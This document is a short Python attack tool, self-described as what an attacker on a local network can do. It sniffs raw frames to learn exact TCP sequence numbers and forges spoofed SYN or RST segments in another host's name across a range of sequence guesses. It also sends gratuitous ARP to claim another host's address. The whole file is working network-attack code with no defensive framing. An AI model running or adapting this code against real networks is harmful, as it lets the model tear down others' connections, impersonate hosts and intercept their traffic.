"""What an attacker on the link's network can do, and what it takes to aim exactly.

observe PORT                                        prints what comes next on the link: see below
forge FLAGS SOURCE PORT TARGET PORT SEQ COUNT STEP  sends COUNT segments in SOURCE's name, SEQ and on by STEP
announce ADDRESS                                    claims an address of another host (gratuitous ARP)
"""
import socket
import struct
import sys

DEVICE = "eth0"
TCP = socket.IPPROTO_TCP
FLAGS = {"SYN": 0x02, "RST": 0x04, "RST+ACK": 0x14}
WINDOW = 1024


def segments(wire):
    """Yields source port, target port, sequence, acknowledgement and payload of each TCP segment."""
    while True:
        frame = wire.recv(65535)
        if frame[12:14] != b"\x08\x00" or frame[23] != TCP:
            continue
        header = 14 + (frame[14] & 15) * 4
        end = 14 + struct.unpack_from("!H", frame, 16)[0]
        ports = struct.unpack_from("!HHII", frame, header)
        yield (*ports, frame[header + (frame[header + 12] >> 4) * 4 : end])


def observe(port):
    """Waits for a probe to the port and its acknowledgement: what either end expects next is exact then."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.bind((DEVICE, 0))
    print("observing", flush=True)
    awaited = None
    for source, target, sequence, acknowledged, payload in segments(wire):
        if target == port and payload == b"P":
            awaited = (sequence + 1) & 0xFFFFFFFF
        elif source == port and acknowledged == awaited:
            print("next", target, sequence, acknowledged, flush=True)
            return


def words(data):
    return sum(struct.unpack("!%dH" % (len(data) // 2), data))


def forge(flags, source, source_port, target, target_port, sequence, count, step):
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    base = words(addresses) + TCP + 20 + source_port + target_port + (0x5000 | FLAGS[flags]) + WINDOW
    ip = struct.pack("!BBHHHBBH8s", 0x45, 0, 40, 0, 0, 64, TCP, 0, addresses)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.connect((target, 0))
    for i in range(count):
        guess = (sequence + i * step) & 0xFFFFFFFF
        check = base + (guess >> 16) + (guess & 0xFFFF)
        check = (check & 0xFFFF) + (check >> 16)
        check = ~((check & 0xFFFF) + (check >> 16)) & 0xFFFF
        raw.send(ip + struct.pack(
            "!HHIIHHHH", source_port, target_port, guess, 0, 0x5000 | FLAGS[flags], WINDOW, check, 0))
    print("sent", count, flush=True)


def announce(address):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((DEVICE, 0x0806))
    own = wire.getsockname()[4]
    ip = socket.inet_aton(address)
    for operation in (1, 2):
        wire.send(b"\xff" * 6 + own + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
                  + own + ip + b"\xff" * 6 + ip)


if sys.argv[1] == "observe":
    observe(int(sys.argv[2]))
elif sys.argv[1] == "forge":
    _, _, flags, source, source_port, target, target_port, sequence, count, step = sys.argv
    forge(flags, source, int(source_port), target, int(target_port), int(sequence), int(count), int(step))
else:
    announce(sys.argv[2])
